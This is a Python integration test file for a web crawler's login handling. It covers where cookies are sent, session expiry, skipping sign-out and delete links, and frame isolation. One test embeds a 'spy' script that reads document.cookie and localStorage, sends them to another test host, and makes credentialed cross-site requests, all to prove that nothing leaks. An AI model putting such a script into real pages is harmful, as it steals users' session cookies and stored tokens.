"""A crawl with a login: who is told the cookies and the storage, and who is not."""

from collections.abc import Awaitable, Callable
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from msgspec import structs

from gossamer.model.crawl_state import CrawlState
from gossamer.model.errors import UsageError
from gossamer.model.outcome import PAGES, Outcome
from gossamer.model.secrets import Login, LoginCookie, OriginSecrets, Secrets
from gossamer.model.settings.crawl_settings import CrawlSettings
from gossamer.model.settings.rendering_choices import RenderMode
from gossamer.render.browser_discovery import find_browsers
from gossamer.session.crawl_session import CrawlSession
from tests.integration.crawling import closing, records, run, sessions, until, until_rest
from tests.sites import Response, Site
from tests.sites.cookie_sites import told
from tests.sites.ledger import Request
from tests.sites.login_site import SESSION, TOKEN, LoginSite
from tests.sites.responses import html_page

LOGIN = Login(
    cookies=(LoginCookie("session", SESSION), LoginCookie("half", "1", "/code")),
    local_storage=(("token", TOKEN),),
)


def crawled(path: Path, site: Site, **changes: object) -> dict[str, Outcome]:
    """The outcomes of a crawl with the login, by path."""
    origin = site.url("/").rstrip("/")
    settings = structs.replace(CrawlSettings(roots=(site.url("/"),)), **changes)
    bound = Secrets({origin: OriginSecrets(login=LOGIN)})

    async def main() -> None:
        async with closing(sessions().create(settings, path, bound=bound)) as session:
            await session.start()
            assert await until_rest(session) is CrawlState.FINISHED

    run(main())
    return {url.removeprefix(origin): row.outcome for url, row in records(path).items()}


def test_the_cookies_of_a_login_are_sent_to_their_origin_and_path_alone(
    site: Site, tmp_path: Path
) -> None:
    LoginSite(site)
    with Site("127.0.0.1") as other:
        other.page("/")
        site.page("/", links=["/account", "/code", other.url("/")])
        path = tmp_path / "a.gossamer"
        outcomes = crawled(path, site, check_external=True)
        assert other.paths
        assert not any(request.header("Cookie") for request in other.requests)
    assert outcomes["/account"] in PAGES
    by_path = {request.path: told(request) for request in site.requests}
    assert by_path["/account"] == {"session": SESSION}
    assert by_path["/code"] == {"half": "1", "session": SESSION}
    assert SESSION.encode() not in path.read_bytes()


def test_a_cookie_that_the_server_sets_anew_replaces_that_of_the_login(
    site: Site, tmp_path: Path
) -> None:
    fresh = ("Set-Cookie", "session=renewed; Path=/")
    site.page("/", links=["/a"], headers=[fresh])
    site.page("/a")
    crawled(tmp_path / "a.gossamer", site)
    sent = {request.path: told(request).get("session") for request in site.requests}
    assert sent["/"] == SESSION
    assert sent["/a"] == "renewed"


def test_a_project_names_the_login_that_it_needs_and_asks_for_it(
    site: Site, tmp_path: Path
) -> None:
    LoginSite(site)
    path = tmp_path / "a.gossamer"
    crawled(path, site)
    session = sessions().open(path)
    (needed,) = session.missing_secrets
    assert needed.login
    assert TOKEN.encode() not in path.read_bytes()
    with pytest.raises(UsageError, match="This crawl needs the login for http"):
        run(session.start())


@pytest.fixture
def expiring(site: Site) -> list[str]:
    """The pages of a site whose session ends when `/expire` is asked for."""
    pages = [f"/m/{number}" for number in range(8)]
    members = LoginSite(site, pages)

    def expire(_: Request) -> Response:
        members.session = "another"
        return Response(body=html_page("expired", ()))

    site.page("/", links=[*pages[:3], "/expire", *pages[3:]])
    site.answer("/expire", expire)
    return pages


def crawled_until_expired(
    path: Path, site: Site, go_on: Callable[[CrawlSession, Secrets], Awaitable[None]]
) -> dict[str, Outcome]:
    """The outcomes of a crawl whose login has expired. `go_on` gets one that works."""
    origin = site.url("/").rstrip("/")
    settings = CrawlSettings(roots=(site.url("/"),), workers=2)
    anew = Login(cookies=(LoginCookie("session", "another"),))

    async def main() -> None:
        bound = Secrets({origin: OriginSecrets(login=LOGIN)})
        async with closing(sessions().create(settings, path, bound=bound)) as session:
            await session.start()
            await until(session, lambda progress: progress.state is CrawlState.PAUSED)
            assert "Log in again" in str(session.progress.notice)
            assert session.progress.login_url.startswith(f"{origin}/m/")
            await go_on(session, Secrets({origin: OriginSecrets(login=anew)}))
            assert await until_rest(session) is CrawlState.FINISHED
            assert not session.progress.login_url

    run(main())
    return {url.removeprefix(origin): row.outcome for url, row in records(path).items()}


def test_pages_that_asked_for_the_login_are_crawled_again_when_somebody_has_logged_in(
    site: Site, expiring: list[str], tmp_path: Path
) -> None:
    async def log_in(session: CrawlSession, anew: Secrets) -> None:
        asked = session.progress.outcomes[Outcome.LOGIN_REQUIRED]
        assert asked >= 2
        assert session.progress.errors == 0  # they wait
        await session.change({}, anew)
        await session.start()

    outcomes = crawled_until_expired(tmp_path / "a.gossamer", site, log_in)
    assert {outcomes[page] for page in expiring} <= PAGES
    assert "/login" not in outcomes
    told_last = {request.path: told(request).get("session") for request in site.requests}
    assert told_last["/m/7"] == "another"


def test_who_goes_on_without_logging_in_sees_which_pages_asked_for_it(
    site: Site, expiring: list[str], tmp_path: Path
) -> None:
    async def resume(session: CrawlSession, _: Secrets) -> None:
        await session.resume()

    path = tmp_path / "a.gossamer"
    outcomes = crawled_until_expired(path, site, resume)
    asked = [page for page in expiring if outcomes[page] is Outcome.LOGIN_REQUIRED]
    assert len(asked) >= 2
    rows = {urlsplit(url).path: row for url, row in records(path).items()}
    for page in asked:
        assert (rows[page].status, rows[page].title) == (None, None)
        assert "/login" in str(rows[page].detail)


def test_a_start_page_that_answers_with_the_login_form_pauses_the_crawl(
    site: Site, tmp_path: Path
) -> None:
    site.page("/", title="Log in", body="<form><input type=password></form>", links=["/about"])
    site.page("/about")
    origin = site.url("/").rstrip("/")
    settings = CrawlSettings(roots=(site.url("/"),))

    async def main() -> None:
        bound = Secrets({origin: OriginSecrets(login=LOGIN)})
        path = tmp_path / "a.gossamer"
        async with closing(sessions().create(settings, path, bound=bound)) as session:
            await session.start()
            await until(session, lambda progress: progress.state is CrawlState.PAUSED)
            assert "the start page" in str(session.progress.notice)

    run(main())
    assert site.paths.count("/about") == 0


def test_a_crawl_with_a_login_does_not_sign_out(site: Site, tmp_path: Path) -> None:
    LoginSite(site)
    more = "<a href=/away title='Sign out'>Jo</a><a href=/off><i class=fa-sign-out></i></a>"
    sent = "<a href=/members/2 data-method=delete>x</a><a href=/#delete>Delete</a>"
    site.page("/", links=["/logout", "/account", "/posts/1/delete"], body=more + sent)
    site.page("/logout")
    path = tmp_path / "a.gossamer"
    outcomes = crawled(path, site)
    ending = {"/logout", "/posts/1/delete", "/away", "/off", "/members/2"}
    assert {url for url, outcome in outcomes.items() if outcome is Outcome.ENDS_SESSION} == ending
    assert not ending & set(site.paths)
    assert str(records(path)[site.url("/off")].detail) == "fa-sign-out"


def test_what_a_script_deletes_is_a_page_if_another_page_links_to_it_later(
    site: Site, tmp_path: Path
) -> None:
    LoginSite(site)
    deletes = "".join(f"<a href=/members/{n} data-method=delete>x</a>" for n in range(1, 5))
    site.page("/", links=["/again"], body=deletes)
    site.page("/again", links=["/list"], body=deletes)
    shows = "<a href=/members/1>Jo</a><a href=/members/2 title=Delete>x</a>"
    site.page("/list", body=shows + "<a href=/members/3 rel=nofollow>Jim</a>")
    site.page("/members/1", links=["/members/1/posts"])
    site.page("/members/1/posts")
    outcomes = crawled(tmp_path / "a.gossamer", site)
    assert outcomes["/members/1"] is outcomes["/members/1/posts"] is Outcome.PAGE
    for member in ("/members/2", "/members/3", "/members/4"):
        assert outcomes[member] is Outcome.ENDS_SESSION
        assert member not in site.paths


@pytest.mark.skipif(not find_browsers(), reason="there is no browser that renders")
def test_stored_values_are_there_before_the_scripts_of_a_rendered_page(
    site: Site, tmp_path: Path
) -> None:
    LoginSite(site)
    outcomes = crawled(tmp_path / "a.gossamer", site, render=RenderMode.ON)
    assert outcomes["/inside"] is Outcome.PAGE
    assert outcomes["/account"] is Outcome.PAGE


@pytest.mark.skipif(not find_browsers(), reason="there is no browser that renders")
def test_frames_of_other_sites_see_neither_cookies_nor_stored_values(
    site: Site, tmp_path: Path
) -> None:
    spy = """<script>
    let seen = document.cookie; try { seen += JSON.stringify(localStorage); } catch {}
    fetch('/seen?' + encodeURIComponent(seen));
    for (const method of ['GET', 'POST'])
        fetch('SITE/api', {method, mode: 'no-cors', credentials: 'include'});
    </script>""".replace("SITE/", site.url("/"))
    with Site("127.0.0.2") as other:  # the port makes no other site
        other.page("/spy", body=spy)
        other.generate(lambda path: Response() if path.startswith("/seen") else None)
        site.page("/", body=f"<iframe src={other.url('/spy')}></iframe>")
        site.page("/api")
        crawled(tmp_path / "a.gossamer", site, render=RenderMode.ON)
        told_of = [path for path in other.paths if path.startswith("/seen")]
        assert told_of == ["/seen?%7B%7D"]
    asked = [request for request in site.requests if request.path == "/api"]
    assert [(each.method, told(each)) for each in asked] == [("GET", {})]
